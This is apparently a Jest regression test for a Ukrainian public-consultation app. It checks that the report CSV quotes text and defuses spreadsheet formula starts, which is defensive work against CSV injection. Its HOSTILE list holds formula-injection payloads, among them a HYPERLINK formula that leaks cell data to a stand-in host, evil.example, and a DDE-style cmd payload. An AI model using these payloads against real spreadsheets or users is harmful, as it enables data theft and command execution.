import { officialToken } from '../harness/admins';
import { createCitizen } from '../harness/citizens';
import { closeDb, db } from '../harness/database';
import { api } from '../harness/http';
import { testServer } from '../harness/server';
import { ADMIN, closeByJob, openConsultation, PUBLIC } from '../../../plugins/consultations/tests/helpers';

/**
 * Issue 9: a comment `Пропозиція;=1+1;` came out of the report CSV unquoted, and Excel with a Ukrainian locale
 * (list separator `;`) split it into a live formula. Every text cell is quoted now and every formula start is
 * neutralised, also where a reader that splits on `;` or `,` regardless of quotes would start a cell.
 */
jest.setTimeout(120_000);
afterAll(closeDb);

/** What a spreadsheet runs: a cell starting (after spaces, and after the quote a naive split leaves) with = + - @ TAB CR. */
const FORMULA_START = /^\s*"?\s*[=+\-@\t\r]/;

const HOSTILE = [
  'Пропозиція;=1+1;',
  '=HYPERLINK("http://evil.example/?leak="&A1,"Натисніть")',
  ' @SUM(1+1)*cmd|" /C calc"!A0',
  'Текст,+1;-2\t=3',
];

describe('the consultation report CSV', () => {
  it('quotes every text cell and leaves no cell a spreadsheet would run as a formula, whatever the separator', async () => {
    const official = await officialToken();
    const id = await openConsultation(official);
    const ids: number[] = [];
    for (const [i, body] of HOSTILE.entries()) {
      const citizen = await createCitizen();
      const res = await api('POST', `${PUBLIC}/${id}/sections/1/comments`, {
        cookie: citizen.cookie,
        body: { body: `${body} Пропозиція до розділу ${i + 1}.` },
      });
      expect(res.status).toBe(201);
      ids.push(res.body.data.id);
      // Author names come only from the identity provider; a hostile one there must not become a formula either.
      if (i === 0) {
        await db().query('UPDATE consultations_contributions SET author_name = $1, author_verified = true WHERE id = $2', ['-Олена;=2+2', res.body.data.id]);
      }
    }
    await closeByJob(id);
    for (const commentId of ids) {
      const disposed = await api('POST', `${ADMIN}/${id}/comments/${commentId}/disposition`, {
        bearer: official,
        body: { disposition: 'rejected', reason: '=1+1 не є пропозицією' },
      });
      expect(disposed.status).toBe(200);
    }
    expect((await api('POST', `${ADMIN}/${id}/report`, { bearer: official, body: { summary: 'Пропозиції розглянуто.' } })).status).toBe(200);

    const response = await fetch(`${testServer().url}${PUBLIC}/${id}/report.csv`);
    expect(response.status).toBe(200);
    const csv = (await response.text()).replace(/^\uFEFF/, '');

    // Read as Excel with a `;` or `,` list separator would, naively splitting the line: still no formula anywhere.
    for (const separator of [';', ',', '\t']) {
      for (const line of csv.split(/\r\n|\n|\r/)) {
        for (const cell of line.split(separator)) expect(cell).not.toMatch(FORMULA_START);
      }
    }
    // Read properly (RFC 4180, comma): each hostile text is one quoted cell, kept readable, its formula start defused.
    const cells = parseCsv(csv);
    const records = cells.map((r) => r.map((c) => c.value));
    const proposalColumn = records[0].indexOf('Пропозиція / Proposal');
    expect(proposalColumn).toBeGreaterThan(-1);
    const proposals = records.slice(1).map((r) => r[proposalColumn]);
    expect(proposals).toHaveLength(HOSTILE.length);
    for (const cell of records.flat()) expect(cell).not.toMatch(FORMULA_START);
    expect(proposals[0]).toContain('Пропозиція;');

    // Every text cell is quoted in the file itself (numbers and empty cells need not be).
    const unquoted = cells.flat().filter((c) => !c.quoted && c.value !== '' && !/^-?\d+(\.\d+)?$/.test(c.value));
    expect(unquoted).toEqual([]);
  });
});

/** A strict RFC 4180 reader, so the test checks the format rather than our writer against itself. */
function parseCsv(text: string): { value: string; quoted: boolean }[][] {
  const rows: { value: string; quoted: boolean }[][] = [];
  let row: { value: string; quoted: boolean }[] = [];
  let i = 0;
  while (i < text.length) {
    let field = '';
    const quoted = text[i] === '"';
    if (quoted) {
      i += 1;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted field');
        if (text[i] === '"' && text[i + 1] === '"') {
          field += '"';
          i += 2;
        } else if (text[i] === '"') {
          i += 1;
          break;
        } else field += text[i++];
      }
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\r') field += text[i++];
    }
    row.push({ value: field, quoted });
    if (text[i] === ',') i += 1;
    else if (text[i] === '\r' && text[i + 1] === '\n') {
      rows.push(row);
      row = [];
      i += 2;
    } else throw new Error(`unexpected ${JSON.stringify(text[i])} at ${i}`);
  }
  return rows;
}
